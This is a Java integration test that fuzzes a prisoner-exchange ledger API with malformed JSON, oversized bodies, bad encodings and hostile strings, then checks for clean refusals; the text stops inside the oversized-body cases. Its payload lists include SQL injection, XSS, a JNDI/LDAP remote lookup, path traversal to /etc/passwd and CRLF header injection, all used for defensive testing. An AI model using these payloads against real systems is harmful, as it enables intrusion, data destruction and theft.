package org.powledger.bootstrap;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.IntPredicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.powledger.domain.model.AccessScope;

/**
 * Hostile input against the real server (the packaged jar, a child process with a 64 MiB heap, as
 * {@link #HEAP}) on a real SQLite file: thousands of malformed and malicious requests, generated from
 * tables of cases, and clients that stall, trickle and pile up. Whatever is sent, the answer is never a 5xx; every error
 * is {@code application/problem+json} with {@code type}, {@code title}, {@code status} and
 * {@code detail}; no body shows a stack trace; and afterwards the ledger holds exactly what the valid
 * requests created and passes the integrity check.
 */
class HostileInputIT {

    /** How many requests the suite sends and how many kinds they fall in: quoted in reports, checked below. */
    static final int REQUESTS = 3276;
    static final List<String> KINDS = List.of("wrong-type", "number", "nesting", "long-string", "utf-8",
            "duplicate-key", "null-and-shape", "injection", "path-trick", "oversized", "content-type",
            "query-parameter", "header", "import", "raw-socket", "smuggling", "host", "cors", "formula",
            "slow-reader", "slow-upload", "concurrent-export-import");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String APP_ORIGIN = "https://app.example";
    private static final String API = "/api/v1";
    private static final Set<String> READ_ONLY = Set.of("/id", "/unattributed", "/version", "/createdAt", "/updatedAt");

    @TempDir
    static Path dir;

    /** The server's heap: every kind below must be answered cleanly within it. */
    static final String HEAP = "64m";

    private static ServerProcess server;
    private static Path db;
    private static RawHttp http;
    private static String writeToken;
    private static String readToken;
    private static String setupExchange;
    private static String setupReport;

    private static final Map<String, Integer> sentByKind = new LinkedHashMap<>();
    private static final List<String> failures = new ArrayList<>();
    private static final Map<String, Set<String>> expected = new LinkedHashMap<>();
    private static int accepted;
    private static int closedWithoutAnswer;
    private static int sequence;

    // ---------------------------------------------------------------- valid templates

    private static ObjectNode exchange() {
        return object("""
                {"date": "2024-12-30", "kind": "prisoners", "operation": "op-hostile", "returned": 10,
                 "handedOver": 5, "civilians": 1, "mediators": ["UAE"],
                 "breakdown": [{"unit": "afu", "cohort": "azovstal", "count": 3}],
                 "sources": [{"url": "https://example.org/a", "title": "t", "publisher": "p", "publishedOn": "2024-12-30"}],
                 "notes": "n"}""");
    }

    private static ObjectNode unit() {
        return object("{\"name\": \"Hostile unit\", \"parent\": \"afu\"}");
    }

    private static ObjectNode cohort() {
        return object("{\"name\": \"Hostile cohort\", \"size\": 100, \"sizeApproximate\": true, \"description\": \"d\"}");
    }

    private static ObjectNode report() {
        return object("""
                {"scope": {"year": 2024}, "metric": "peopleReturned", "value": 5, "approximate": false,
                 "asOf": "2025-01-02", "notes": "n",
                 "source": {"url": "https://example.org/r", "title": "t", "publisher": "p", "publishedOn": "2025-01-02"}}""");
    }

    /** Where each kind of body is sent: a fresh unit or cohort id each time, so an acceptance is visible. */
    private enum Target {
        EXCHANGE("POST", () -> API + "/exchanges", HostileInputIT::exchange),
        UNIT("PUT", () -> API + "/units/h-" + (++sequence), HostileInputIT::unit),
        COHORT("PUT", () -> API + "/cohorts/hc-" + (++sequence), HostileInputIT::cohort),
        REPORT("POST", () -> API + "/reports", HostileInputIT::report);

        final String method;
        final java.util.function.Supplier<String> path;
        final java.util.function.Supplier<ObjectNode> template;

        Target(String method, java.util.function.Supplier<String> path, java.util.function.Supplier<ObjectNode> template) {
            this.method = method;
            this.path = path;
            this.template = template;
        }
    }

    private enum Shape { STRING, WHOLE, BOOLEAN, DATE, ARRAY, OBJECT }

    /** Every field a client may send, with the JSON type it must have. */
    private static final Map<Target, Map<String, Shape>> FIELDS = Map.of(
            Target.EXCHANGE, fields("/id", Shape.STRING, "/ref", Shape.STRING, "/date", Shape.DATE,
                    "/kind", Shape.STRING, "/operation", Shape.STRING, "/returned", Shape.WHOLE,
                    "/handedOver", Shape.WHOLE, "/civilians", Shape.WHOLE, "/mediators", Shape.ARRAY,
                    "/mediators/0", Shape.STRING, "/breakdown", Shape.ARRAY, "/breakdown/0", Shape.OBJECT,
                    "/breakdown/0/unit", Shape.STRING, "/breakdown/0/cohort", Shape.STRING,
                    "/breakdown/0/count", Shape.WHOLE, "/unattributed", Shape.WHOLE, "/sources", Shape.ARRAY,
                    "/sources/0", Shape.OBJECT, "/sources/0/url", Shape.STRING, "/sources/0/title", Shape.STRING,
                    "/sources/0/publisher", Shape.STRING, "/sources/0/publishedOn", Shape.DATE,
                    "/notes", Shape.STRING, "/version", Shape.WHOLE, "/createdAt", Shape.STRING,
                    "/updatedAt", Shape.STRING),
            Target.UNIT, fields("/id", Shape.STRING, "/name", Shape.STRING, "/parent", Shape.STRING,
                    "/version", Shape.WHOLE, "/createdAt", Shape.STRING, "/updatedAt", Shape.STRING),
            Target.COHORT, fields("/id", Shape.STRING, "/name", Shape.STRING, "/size", Shape.WHOLE,
                    "/sizeApproximate", Shape.BOOLEAN, "/description", Shape.STRING, "/version", Shape.WHOLE,
                    "/createdAt", Shape.STRING, "/updatedAt", Shape.STRING),
            Target.REPORT, fields("/id", Shape.STRING, "/scope", Shape.OBJECT, "/scope/year", Shape.WHOLE,
                    "/scope/cohort", Shape.STRING, "/scope/unit", Shape.STRING, "/scope/exchange", Shape.STRING,
                    "/metric", Shape.STRING, "/value", Shape.WHOLE, "/approximate", Shape.BOOLEAN,
                    "/asOf", Shape.DATE, "/source", Shape.OBJECT, "/source/url", Shape.STRING,
                    "/source/title", Shape.STRING, "/source/publisher", Shape.STRING,
                    "/source/publishedOn", Shape.DATE, "/notes", Shape.STRING, "/version", Shape.WHOLE,
                    "/createdAt", Shape.STRING));

    /** JSON of the wrong type for each shape. */
    private static final Map<Shape, List<String>> WRONG = Map.of(
            Shape.STRING, List.of("1", "1.5", "true", "{}", "[]", "[\"a\"]"),
            Shape.WHOLE, List.of("\"1\"", "1.5", "true", "{}", "[]", "\"abc\"", "1e2", "[1]"),
            Shape.BOOLEAN, List.of("\"true\"", "1", "0", "{}", "[]", "\"yes\""),
            Shape.DATE, List.of("20241230", "\"2024-02-30\"", "\"30.12.2024\"", "\"2024-12-30T00:00:00Z\"",
                    "[2024,12,30]", "{}", "\"+2024-12-30\"", "\"2024-1-1\"", "true"),
            Shape.ARRAY, List.of("\"x\"", "1", "{}", "true"),
            Shape.OBJECT, List.of("\"x\"", "1", "[]", "true"));

    /** Numbers that no whole-number field takes, and numbers whose fate depends on the field. */
    private static final List<String> BAD_NUMBERS = List.of("1e309", "-1e309", "9223372036854775808",
            "-9223372036854775809", "2147483648", "-2147483649", "1.5", "1e3", "1E2", "0.0", "-1",
            "99999999999999999999999999999999999999", "1.0", "4.9e-324", "-2147483648",
            "123456789012345678901234567890e-10");
    private static final List<String> MALFORMED_NUMBERS = List.of("0x10", "01", "NaN", "Infinity", "-Infinity",
            "+1", ".5", "1.", "1e", "--1", "1_000", "١");
    private static final List<String> EDGE_NUMBERS = List.of("-0", "0", "2147483647", "9223372036854775807", "100001");

    private static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE exchange; --",
            "\" OR 1=1 --",
            "Robert'); DELETE FROM unit;--",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "${jndi:ldap://x/a}",
            "${env:HOME}",
            "%n%s%s%s%x%p",
            "a\u0000b",
            "\u202Egnp.exe",
            "😀👨‍👩‍👧 ✓",
            "{{7*7}}",
            "../../etc/passwd",
            "NEAR(a b) OR \"x* AND -y:z ^",
            "\\u0000\\",
            "\uFEFFbom",
            "line\r\nInjected: yes");

    // ---------------------------------------------------------------- the test

    @BeforeAll
    static void start() throws Exception {
        db = dir.resolve("hostile.db");
        server = ServerProcess.serveWithHeap(HEAP, db, "--cors-origin", APP_ORIGIN);
        http = new RawHttp(server.port());
        writeToken = token("hostile-writer", AccessScope.WRITE);
        readToken = token("hostile-reader", AccessScope.READ);
        for (String kind : List.of("units", "cohorts", "exchanges", "reports")) {
            expected.put(kind, new LinkedHashSet<>());
        }
        setup("PUT", API + "/units/afu", "{\"name\": \"Armed Forces\"}");
        setup("PUT", API + "/units/tro", "{\"name\": \"Territorial Defence\", \"parent\": \"afu\"}");
        setup("PUT", API + "/cohorts/azovstal", "{\"name\": \"Azovstal garrison\", \"size\": 2500}");
        ObjectNode first = exchange();
        first.put("ref", "setup-1");
        setupExchange = last(setup("POST", API + "/exchanges", first.toString()));
        setupReport = last(setup("POST", API + "/reports", report().toString()));
        // Templates sent as they are must be accepted, so that every refusal below is the mutation's doing.
        setup("PUT", API + "/units/template-unit", unit().toString());
        setup("PUT", API + "/cohorts/template-cohort", cohort().toString());
    }

    /** A token made with the command line on the running server's file. */
    private static String token(String name, AccessScope scope) throws Exception {
        ServerProcess.Result made = ServerProcess.run("token", "create", name, "--scope", scope.wireName(),
                "--db", db.toString());
        assertThat(made.exitCode()).as(made.err()).isZero();
        return made.out().strip();
    }

    @AfterAll
    static void stop() throws Exception {
        if (http != null) {
            http.close();
        }
        if (server != null) {
            server.close();
        }
    }

    @Test
    void hostile_requests_get_clean_refusals_and_leave_the_ledger_as_the_valid_requests_made_it() throws Exception {
        long started = System.nanoTime();
        wrongTypes();
        numbers();
        nesting();
        longStrings();
        invalidUtf8();
        duplicateKeys();
        nullsAndShapes();
        injections();
        pathTricks();
        oversized();
        contentTypes();
        queryParameters();
        headers();
        imports();
        rawSocket();
        smuggling();
        hostNames();
        crossOrigin();
        formulas();
        slowReaders();
        slowUploads();
        concurrentExportsAndImports();

        int sent = sentByKind.values().stream().mapToInt(Integer::intValue).sum();
        System.out.printf("hostile input: %d requests of %d kinds in %d ms; %d accepted (valid despite hostile text), "
                        + "%d connections closed without an answer (garbage request lines); by kind: %s%n",
                sent, sentByKind.size(), (System.nanoTime() - started) / 1_000_000, accepted, closedWithoutAnswer,
                sentByKind);
        assertThat(failures).as("hostile requests answered wrongly").isEmpty();

        for (Map.Entry<String, Set<String>> kind : expected.entrySet()) {
            assertThat(listIds(kind.getKey())).as("stored %s", kind.getKey())
                    .containsExactlyInAnyOrderElementsOf(kind.getValue());
        }
        assertThat(versionOf(API + "/units/afu")).isEqualTo(1);
        assertThat(versionOf(API + "/units/tro")).isEqualTo(1);
        assertThat(versionOf(API + "/cohorts/azovstal")).isEqualTo(1);
        assertThat(versionOf(API + "/exchanges/" + setupExchange)).isEqualTo(1);
        assertThat(server.isAlive()).as("the server survived everything at -Xmx" + HEAP).isTrue();
        ServerProcess.Result check = ServerProcess.run("check", "--db", db.toString());
        assertThat(check.exitCode()).as("check: %s %s", check.out(), check.err()).isZero();
        assertThat(sentByKind.keySet()).containsExactlyElementsOf(KINDS);
        assertThat(sent).as("REQUESTS, the count quoted in reports").isEqualTo(REQUESTS);
    }

    // ---------------------------------------------------------------- the kinds of hostility

    private void wrongTypes() {
        for (Target target : Target.values()) {
            for (Map.Entry<String, Shape> field : FIELDS.get(target).entrySet()) {
                for (String wrong : WRONG.get(field.getValue())) {
                    body("wrong-type", target, field.getKey() + "=" + wrong, with(target.template.get(), field.getKey(), wrong),
                            is(422));
                }
            }
        }
    }

    private void numbers() {
        for (Target target : Target.values()) {
            for (Map.Entry<String, Shape> field : FIELDS.get(target).entrySet()) {
                if (field.getValue() != Shape.WHOLE || field.getKey().equals("/version")
                        || field.getKey().equals("/unattributed")) {
                    continue;
                }
                for (String n : BAD_NUMBERS) {
                    body("number", target, field.getKey() + "=" + n, with(target.template.get(), field.getKey(), n),
                            (n.equals("2147483648") || n.equals("-2147483648")) && field.getKey().equals("/value")
                                    ? is(422) : is(400, 422));
                }
                for (String n : MALFORMED_NUMBERS) {
                    body("number", target, field.getKey() + "=" + n, with(target.template.get(), field.getKey(), n),
                            is(400));
                }
                for (String n : EDGE_NUMBERS) {
                    body("number", target, field.getKey() + "=" + n, with(target.template.get(), field.getKey(), n),
                            clean());
                }
            }
        }
    }

    private void nesting() {
        for (int depth : new int[] {1_001, 10_000, 100_000, 400_000}) {
            String arrays = "[".repeat(depth) + "]".repeat(depth);
            String objects = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            String open = "[".repeat(depth);
            for (Target target : Target.values()) {
                body("nesting", target, depth + " arrays", arrays.getBytes(StandardCharsets.UTF_8), is(400, 422));
                // 400 would be exact (not JSON); the mapper meets the wrong type before the missing end: 422.
                body("nesting", target, depth + " unclosed", open.getBytes(StandardCharsets.UTF_8), is(400, 422));
                if (depth <= 100_000) {
                    body("nesting", target, depth + " objects", objects.getBytes(StandardCharsets.UTF_8), is(400, 422));
                }
            }
            body("nesting", Target.EXCHANGE, depth + " in notes",
                    with(exchange(), "/notes", arrays), is(400, 422));
            body("nesting", Target.EXCHANGE, depth + " in breakdown",
                    with(exchange(), "/breakdown/0/count", arrays), is(400, 422));
        }
    }

    private void longStrings() {
        String mega = "x".repeat(1_000_000);
        body("long-string", Target.EXCHANGE, "1 MB notes", with(exchange(), "/notes", quote(mega)), is(422));
        body("long-string", Target.REPORT, "1 MB notes", with(report(), "/notes", quote(mega)), is(422));
        body("long-string", Target.COHORT, "1 MB description", with(cohort(), "/description", quote(mega)), is(422));
        body("long-string", Target.UNIT, "1 MB name", with(unit(), "/name", quote(mega)), is(422));
        for (int length : new int[] {201, 10_001, 100_000, 600_000}) {
            String s = (length == 600_000 ? "x" : "é").repeat(length);
            for (Target target : Target.values()) {
                for (Map.Entry<String, Shape> field : FIELDS.get(target).entrySet()) {
                    if (field.getValue() == Shape.STRING && length != 600_000 || field.getKey().equals("/notes")) {
                        // Read-only fields are ignored whatever their length; limits are 200, 500 or 10,000.
                        boolean mustRefuse = length >= 100_000 && !READ_ONLY.contains(field.getKey());
                        body("long-string", target, field.getKey() + " of " + length,
                                with(target.template.get(), field.getKey(), quote(s)), mustRefuse ? is(422) : clean());
                    }
                }
            }
        }
        for (int length : new int[] {1_000, 49_999, 100_000, 500_000}) {
            String key = "k".repeat(length);
            for (Target target : Target.values()) {
                ObjectNode body = target.template.get();
                body("long-string", target, length + "-char key",
                        with(body, "/" + key, "1"), is(400, 422));
            }
        }
        body("long-string", Target.EXCHANGE, "100k mediators",
                with(exchange(), "/mediators", "[" + String.join(",", java.util.Collections.nCopies(100_000, "\"m\"")) + "]"),
                is(422));
        body("long-string", Target.EXCHANGE, "20k breakdown lines",
                with(exchange(), "/breakdown", "[" + String.join(",",
                        java.util.Collections.nCopies(20_000, "{\"unit\":\"afu\",\"count\":1}")) + "]"),
                is(422));
    }

    private void invalidUtf8() {
        byte[][] bad = {
                {(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xFE, (byte) 0xFF}, {(byte) 0xC0, (byte) 0xAF},
                {(byte) 0xE0, (byte) 0x80, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xF0, (byte) 0x9F, (byte) 0x98},
                {(byte) 0x80}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}};
        for (Target target : Target.values()) {
            String template = target.template.get().toString();
            for (byte[] bytes : bad) {
                String label = java.util.HexFormat.of().formatHex(bytes);
                String textField = target == Target.UNIT || target == Target.COHORT ? "\"name\":\"" : "\"notes\":\"";
                body("utf-8", target, "in a value " + label, splice(template, textField, bytes), is(400));
                body("utf-8", target, "in a key " + label, splice(template, "{\"", bytes), is(400));
                byte[] truncated = concat(template.substring(0, template.length() - 1).getBytes(StandardCharsets.UTF_8),
                        bytes);
                body("utf-8", target, "at the end " + label, truncated, is(400));
            }
            for (String escape : List.of("\\ud800", "\\udfff", "\\ud800\\u0041", "\\uDBFF\\uDFFF", "\\u0000", "\\uZZZZ",
                    "\\x41", "\\q")) {
                boolean malformed = escape.startsWith("\\uZ") || escape.startsWith("\\x") || escape.equals("\\q");
                String field = target == Target.UNIT || target == Target.COHORT ? "/name" : "/notes";
                body("utf-8", target, "escape " + escape, with(target.template.get(), field, "\"a" + escape + "b\""),
                        malformed ? is(400) : clean());
            }
            byte[] utf16 = target.template.get().toString().getBytes(StandardCharsets.UTF_16);
            body("utf-8", target, "UTF-16 body", utf16, is(400));
            byte[] bom = concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                    target.template.get().toString().getBytes(StandardCharsets.UTF_8));
            body("utf-8", target, "UTF-8 BOM", bom, clean());
            byte[] latin1 = target.template.get().toString().replace("\"n\"", "\"Kraków\"")
                    .replace("Hostile", "Hostilé").getBytes(StandardCharsets.ISO_8859_1);
            body("utf-8", target, "Latin-1 body", latin1, is(400));
        }
    }

    private void duplicateKeys() {
        for (Target target : Target.values()) {
            ObjectNode template = target.template.get();
            for (String name : (Iterable<String>) template::fieldNames) {
                String rest = template.toString().substring(1);
                String first = "\"" + name + "\":" + template.get(name);
                body("duplicate-key", target, name + " twice, same value",
                        ("{" + first + "," + rest).getBytes(StandardCharsets.UTF_8), is(400));
                body("duplicate-key", target, name + " twice, null first",
                        ("{\"" + name + "\":null," + rest).getBytes(StandardCharsets.UTF_8), is(400));
            }
            String json = target.template.get().toString();
            String nested = switch (target) {
                case EXCHANGE -> json.replace("{\"unit\":", "{\"count\":1,\"unit\":");
                case REPORT -> json.replace("{\"year\":", "{\"year\":2023,\"year\":");
                case UNIT -> json.replace("{\"name\":", "{\"Name\":\"x\",\"name\":");
                case COHORT -> json.replace("{\"name\":", "{\"name\":\"x\",\"name\":");
            };
            body("duplicate-key", target, "nested", nested.getBytes(StandardCharsets.UTF_8), is(400, 422));
        }
    }

    private void nullsAndShapes() {
        List<String> notObjects = List.of("null", "[]", "[{}]", "\"x\"", "1", "true", "{}", "{} {}", "{}x", "{\"a\"}",
                "{'a': 1}", "{\"a\":1,}", "[1,]", "{\"a\":1 /* c */}", "// c\n{}", "{\"a\"::1}", "\u0000",
                "   ", "\n\n", "{", "}", "\"", "{\"notes\":\"unterminated}", "{\"returned\":1}{\"returned\":2}");
        for (Target target : Target.values()) {
            for (String s : notObjects) {
                body("null-and-shape", target, s, s.getBytes(StandardCharsets.UTF_8), is(400, 422));
            }
            body("null-and-shape", target, "empty body", new byte[0], is(400));
        }
        Map<String, List<String>> nulls = Map.of(
                "/mediators", List.of("[null]", "[\"a\", null]", "[[]]", "[{}]"),
                "/breakdown", List.of("[null]", "[{}]", "[{\"unit\":null,\"count\":1}]", "[{\"unit\":\"afu\",\"count\":null}]",
                        "[{\"unit\":\"afu\"}]", "[{\"count\":1}]", "[{\"unit\":\"afu\",\"count\":0}]",
                        "[{\"unit\":\"afu\",\"count\":11}]", "[{\"unit\":\"nobody\",\"count\":1}]",
                        "[{\"unit\":\"afu\",\"count\":1},{\"unit\":\"afu\",\"count\":1}]", "[[]]",
                        "[{\"unit\":\"afu\",\"count\":1,\"extra\":1}]"),
                "/sources", List.of("[null]", "[{}]", "[{\"url\":null}]", "[{\"url\":\"javascript:alert(1)\"}]",
                        "[{\"url\":\"file:///etc/passwd\"}]", "[{\"url\":\"http://\"}]", "[{\"url\":\"ftp://x\"}]",
                        "[{\"url\":\"\"}]"),
                "/returned", List.of("null"),
                "/kind", List.of("null", "\"PRISONERS\"", "\"\"", "\"robots\""),
                "/date", List.of("null", "\"9999-12-31\"", "\"\""));
        for (Map.Entry<String, List<String>> e : nulls.entrySet()) {
            for (String value : e.getValue()) {
                body("null-and-shape", Target.EXCHANGE, e.getKey() + "=" + value, with(exchange(), e.getKey(), value),
                        e.getKey().equals("/sources") && value.equals("[{}]") ? clean() : is(422));
            }
        }
        for (String scope : List.of("null", "{\"year\":2024,\"cohort\":\"azovstal\"}", "{\"unit\":\"nobody\"}",
                "{\"exchange\":\"ex_nothing\"}", "{\"cohort\":null}", "{\"year\":-5}", "{\"bogus\":1}")) {
            body("null-and-shape", Target.REPORT, "scope=" + scope, with(report(), "/scope", scope),
                    scope.equals("null") || scope.equals("{\"cohort\":null}") ? clean() : is(422));
        }
        for (String metric : List.of("null", "\"\"", "\"PEOPLERETURNED\"", "\"peopleReturned \"", "\"x\"")) {
            body("null-and-shape", Target.REPORT, "metric=" + metric, with(report(), "/metric", metric), is(422));
        }
        body("null-and-shape", Target.UNIT, "parent cycle onto itself",
                ("{\"name\":\"x\",\"parent\":\"h-" + (sequence + 1) + "\"}").getBytes(StandardCharsets.UTF_8), is(422));
        body("null-and-shape", Target.UNIT, "unknown parent", with(unit(), "/parent", "\"nobody\""), is(422));
        body("null-and-shape", Target.UNIT, "id not the path's", with(unit(), "/id", "\"afu\""), is(422));
        body("null-and-shape", Target.UNIT, "blank name", with(unit(), "/name", "\"   \""), is(422));
        body("null-and-shape", Target.COHORT, "negative size", with(cohort(), "/size", "-5"), is(422));
    }

    private void injections() throws Exception {
        for (int i = 0; i < INJECTIONS.size(); i++) {
            String s = INJECTIONS.get(i);
            String q = quote(s);
            boolean control = s.chars().anyMatch(c -> c < 0x20 && c != '\n' && c != '\r' && c != '\t');
            // Free text: stored and given back exactly, or refused for control characters.
            ObjectNode ex = exchange();
            ex.put("ref", s + " #" + i);
            ex.put("notes", s);
            ex.put("operation", s);
            ((ArrayNode) ex.get("mediators")).removeAll().add(s);
            ((ObjectNode) ex.get("sources").get(0)).put("title", s).put("publisher", s);
            roundTrip(Target.EXCHANGE, "free text " + i, ex, control, "/notes", "/ref", "/operation", "/mediators/0",
                    "/sources/0/title");
            ObjectNode u = unit();
            u.put("name", s);
            roundTrip(Target.UNIT, "unit name " + i, u, control, "/name");
            ObjectNode c = cohort();
            c.put("description", s);
            c.put("name", s);
            roundTrip(Target.COHORT, "cohort text " + i, c, control, "/description", "/name");
            ObjectNode r = report();
            r.put("notes", s);
            ((ObjectNode) r.get("source")).put("title", s);
            roundTrip(Target.REPORT, "report text " + i, r, control, "/notes", "/source/title");

            // Ids and references: never a slug, so never stored.
            String enc = encode(s);
            probe("injection", "PUT unit id " + i, request("PUT", API + "/units/" + enc, unit().toString()),
                    is(400, 404, 422));
            probe("injection", "PUT cohort id " + i, request("PUT", API + "/cohorts/" + enc, cohort().toString()),
                    is(400, 404, 422));
            for (String resource : List.of("units", "cohorts", "exchanges", "reports")) {
                probe("injection", "GET " + resource + " id " + i, request("GET", API + "/" + resource + "/" + enc, null),
                        is(400, 404));
                probe("injection", "DELETE " + resource + " id " + i,
                        request("DELETE", API + "/" + resource + "/" + enc, null), is(400, 404));
            }
            body("injection", Target.EXCHANGE, "breakdown unit " + i, with(exchange(), "/breakdown/0/unit", q), is(422));
            body("injection", Target.EXCHANGE, "breakdown cohort " + i, with(exchange(), "/breakdown/0/cohort", q),
                    is(422));
            body("injection", Target.EXCHANGE, "kind " + i, with(exchange(), "/kind", q), is(422));
            body("injection", Target.UNIT, "parent " + i, with(unit(), "/parent", q), is(422));
            body("injection", Target.REPORT, "scope unit " + i, with(report(), "/scope", "{\"unit\":" + q + "}"), is(422));
            body("injection", Target.REPORT, "scope exchange " + i, with(report(), "/scope", "{\"exchange\":" + q + "}"),
                    is(422));
            body("injection", Target.REPORT, "metric " + i, with(report(), "/metric", q), is(422));

            // Query parameters.
            for (String param : List.of("q", "unit", "cohort", "mediator", "operation", "kind", "from", "cursor")) {
                probe("injection", "?" + param + " " + i, request("GET", API + "/exchanges?" + param + "=" + enc, null),
                        param.equals("from") || param.equals("cursor") ? is(400) : is(200, 400));
            }
            probe("injection", "stats from " + i, request("GET", API + "/stats/summary?from=" + enc, null), is(400));
            probe("injection", "stats cohort " + i, request("GET", API + "/stats/cohorts/" + enc, null), is(400, 404));
            probe("injection", "format " + i, request("GET", API + "/units?format=" + enc, null), is(400, 406));

            // Headers (CR and LF would start another header: they are sent escaped).
            String header = s.replace("\r", "\\r").replace("\n", "\\n");
            boolean nul = header.indexOf('\u0000') >= 0;
            probe("injection", "Authorization " + i,
                    request("GET", API + "/units", null).header("Authorization", "Bearer " + header), is(400, 401));
            probe("injection", "If-Match " + i,
                    request("PUT", API + "/units/afu", unit().toString()).header("If-Match", header), is(400));
            probe("injection", "If-None-Match " + i,
                    request("GET", API + "/units/afu", null).header("If-None-Match", header), nul ? is(400) : is(200));
            probe("injection", "Idempotency-Key " + i,
                    request("POST", API + "/exchanges", exchange().toString()).header("Idempotency-Key", header),
                    s.chars().allMatch(ch -> ch >= 0x21 && ch <= 0x7e) ? clean() : is(400));
            probe("injection", "Accept " + i, request("GET", API + "/units", null).header("Accept", header),
                    nul ? is(400) : is(200, 406));
            probe("injection", "X-Whatever " + i, request("GET", API + "/units", null).header("X-Forwarded-For", header),
                    nul ? is(400) : is(200));
        }
    }

    private void roundTrip(Target target, String label, ObjectNode body, boolean control, String... pointers)
            throws Exception {
        RawHttp.Response r = body("injection", target, label, body.toString().getBytes(StandardCharsets.UTF_8),
                control ? is(422) : is(201));
        if (r.status() != 201) {
            return;
        }
        String location = r.header("Location");
        RawHttp.Response back = probe("injection", label + " read back", request("GET", location, null), is(200));
        if (back.status() != 200) {
            return;
        }
        JsonNode stored = JSON.readTree(back.body());
        for (String pointer : pointers) {
            String sent = body.at(pointer).asText().strip();
            if (!stored.at(pointer).asText().equals(sent)) {
                failures.add("injection " + label + ": " + pointer + " stored as " + stored.at(pointer) + ", sent "
                        + body.at(pointer));
            }
        }
    }

    private void pathTricks() {
        List<String> ids = new ArrayList<>(List.of("..", "../", "..%2f", "%2e%2e%2f", "%2e%2e", "%2E%2E%2Fetc%2Fpasswd",
                "%00", "afu%00", "a%00b", "%2F", "afu%2Ftro", "%5c", "afu%5c..%5c", "..;", "afu;x=1", ";jsessionid=1",
                "a".repeat(1000), "%61".repeat(300), "ａｆｕ", "%EF%BD%81%EF%BD%86%EF%BD%95", "%D0%B0fu", "afu%20",
                "%20afu", "AFU", "afu.json", "afu%3F", "afu%23x", "%25", "%252e%252e%252f", "%c0%ae%c0%ae%c0%af",
                "%ff", "%e2%80%ae", "-afu", "afu--", "~afu", "%7e", "afu%0d%0aX-Injected:%201", "%09", "+", "%2B",
                "null", "undefined", "0", "-1", "ex_" + "a".repeat(62), "ex_" + "a".repeat(64), "*", "%2A"));
        for (String id : ids) {
            for (String resource : List.of("units", "cohorts", "exchanges", "reports")) {
                String path = API + "/" + resource + "/" + id;
                probe("path-trick", "GET " + path, request("GET", path, null), is(200, 400, 404));
                probe("path-trick", "DELETE " + path, request("DELETE", path, null), is(400, 404, 405, 409));
            }
            probe("path-trick", "PUT unit " + id, request("PUT", API + "/units/" + id, unit().toString()), clean());
            probe("path-trick", "PUT cohort " + id, request("PUT", API + "/cohorts/" + id, cohort().toString()), clean());
            probe("path-trick", "PUT exchange " + id,
                    request("PUT", API + "/exchanges/" + id, exchange().toString()).header("If-Match", "\"1\""),
                    is(400, 404, 405));
            probe("path-trick", "history " + id, request("GET", API + "/exchanges/" + id + "/history", null),
                    is(400, 404));
            probe("path-trick", "first-time " + id,
                    request("GET", API + "/exchanges/" + id + "/first-time-units", null), is(400, 404));
            probe("path-trick", "cohort stats " + id, request("GET", API + "/stats/cohorts/" + id, null), is(200, 400, 404));
        }
        for (String path : List.of("/api/v1/../v1/units", "/api/v1/./units", "//api/v1/units", "/api/v1/units/",
                "/api/v1//units", "/API/V1/UNITS", "/api/v1/units/afu/..", "/api/v1/units/afu/../tro", "/%2e/api/v1/units",
                "/api/v1/units/afu/extra", "/api/v2/units", "/api/v1/exchanges/" + setupExchange + "/../..",
                "/api/v1/units?", "/api/v1/units#x", "/api/v1/units;x", "/.git/config", "/WEB-INF/web.xml",
                "/api/v1/units/" + "x/".repeat(2000))) {
            probe("path-trick", "GET " + path, request("GET", path, null), is(200, 400, 404, 414, 431));
        }
    }

    private void oversized() {
        byte[] justOver = with(exchange(), "/notes", quote("x".repeat(1_100_000)));
        byte[] exactlyLimit = padTo(with(exchange(), "/notes", quote("x".repeat(1_000_000))), 1024 * 1024);
        byte[] huge = with(exchange(), "/notes", quote("x".repeat(5 * 1024 * 1024)));
        byte[] whitespace = (" ".repeat(2 * 1024 * 1024) + exchange()).getBytes(StandardCharsets.UTF_8);
        for (Target target : Target.values()) {
            String field = target == Target.UNIT ? "/name" : target == Target.COHORT ? "/description" : "/notes";
            byte[] over = with(target.template.get(), field, quote("y".repeat(1_100_000)));
            probe("oversized", target + " over 1 MiB", bodyRequest(target, over), is(413));
            probe("oversized", target + " over 1 MiB chunked", bodyRequest(target, over).chunked(), is(413));
            probe("oversized", target + " over 1 MiB as text/plain",
                    bodyRequest(target, over).header("Content-Type", "text/plain"), is(413, 415));
            probe("oversized", target + " 2 MiB of spaces chunked", bodyRequest(target, whitespace).chunked(), is(413));
        }
        probe("oversized", "exactly 1 MiB", bodyRequest(Target.EXCHANGE, exactlyLimit), is(422));
        probe("oversized", "exactly 1 MiB chunked", bodyRequest(Target.EXCHANGE, exactlyLimit).chunked(), is(422));
        probe("oversized", "1 MiB + 1", bodyRequest(Target.EXCHANGE, padTo(exactlyLimit, 1024 * 1024 + 1)), is(413));
        probe("oversized", "1 MiB + 1 chunked", bodyRequest(Target.EXCHANGE, padTo(exactlyLimit, 1024 * 1024 + 1))
                .chunked(), is(413));
        probe("oversized", "5 MiB chunked", bodyRequest(Target.EXCHANGE, huge).chunked(), is(413));
        probe("oversized", "5 MiB", bodyRequest(Target.EXCHANGE, huge), is(413));
